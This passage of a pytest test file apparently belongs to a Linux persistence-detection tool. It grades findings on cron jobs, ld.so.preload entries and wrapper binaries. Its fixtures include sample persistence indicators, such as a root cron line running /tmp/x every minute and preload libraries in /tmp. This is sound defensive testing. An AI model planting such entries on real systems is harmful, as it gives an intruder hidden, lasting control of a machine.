    assert "file" not in finding["target"]
    whole = list(completed([finding], {"c": Members(members)}))
    assert [f["rule.id"] for f in whole] == ["L010", "file"]
    assert whole[1]["target"]["path"] == "/var/tmp/.x/run.sh" and whole[1]["target"]["file"]["sha256"] == "bb"
    assert whole[1]["escadre.cause"] == finding["escadre.id"] != whole[1]["escadre.id"] and whole[1]["escadre.severity"] == "high"


def named(path: str, facts: dict) -> dict:
    """Return the finding on a collected file that the command of a high cron finding names."""
    finding = findings("/etc/cron.d/job", f"* * * * * root /tmp/x; {path}\n".encode(), "cron")[0]
    assert finding["escadre.severity"] == "high"
    members = {"c": Members([{"path": path, "member": 1, "verdict": "taken", "sha256": "aa", **facts}])}
    (_, made) = completed([finding], members)
    assert made["target"]["path"] == path and made["escadre.cause"] == finding["escadre.id"]
    return made


@pytest.mark.parametrize(
    "path", ["/etc/profile", "/etc/iptables/rules.v4", "/var/lib/dpkg/status", "/home/paul/.bashrc", "/opt/app/server"]
)
def test_the_name_in_a_command_alone_makes_no_grave_finding(path: str) -> None:
    made = named(path, {"mode": "0644"})
    assert (made["escadre.severity"], made["event.severity"]) == ("informational", 1)
    assert made["message"] == (
        f"{path} is only named by the command of system crontab and drop-ins L001, and nothing else is known of it: look at the file."
    )


@pytest.mark.parametrize(
    ("path", "mode", "words"),
    [
        ("/dev/shm/x", "0600", "it is in a folder that every user may write"),
        ("/home/paul/.k/agent", "0755", "it is an executable file with a hidden name"),
    ],
)
def test_a_named_file_with_evidence_of_its_own_has_the_severity_of_the_command(path: str, mode: str, words: str) -> None:
    made = named(path, {"mode": mode})
    assert (made["escadre.severity"], made["event.severity"]) == ("high", 4)
    assert made["message"].startswith(f"{path} is started by system crontab and drop-ins L001, and {words}. Cron runs ")


@pytest.mark.parametrize("path", ["/usr/bin/python3", "/bin/sh", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/sbin/cron"])
def test_programs_of_the_system_are_never_findings_because_something_starts_them(path: str) -> None:
    finding = findings("/etc/cron.d/job", f"* * * * * root /tmp/x; {path} /tmp/y\n".encode(), "cron")[0]
    members = {"c": Members([{"path": p, "member": 1, "verdict": "taken", "sha256": "aa"} for p in (path, "/tmp/x")])}
    assert [f["target"]["path"] for f in completed([finding], members)] == ["/etc/cron.d/job", "/tmp/x"]


def test_findings_on_one_place_are_told_apart() -> None:
    found = findings("/etc/ld.so.preload", b"/tmp/a.so /tmp/b.so:/tmp/c.so\n", "ld_so_preload")
    assert sorted(f["target"]["name"] for f in found) == ["/tmp/a.so", "/tmp/b.so", "/tmp/c.so"]
    assert len({f["escadre.id"] for f in found}) == 3
    assert all(re.fullmatch(r"[0-9a-f]{32}", f["escadre.id"]) for f in found)


@pytest.mark.parametrize(
    ("path", "wrapper"),
    [
        ("usr/bin/find", False),
        ("bin/grep", False),
        ("srv/chroot/usr/bin/ip", False),
        ("usr/local/bin/find", True),
        ("home/anne/bin/find", True),
        ("root/.local/bin/sudo", True),
    ],
)
def test_the_programs_of_the_system_are_in_no_home(path, wrapper):
    assert any("L053" in rows for rows in places.rows_of_file(path).values()) is wrapper
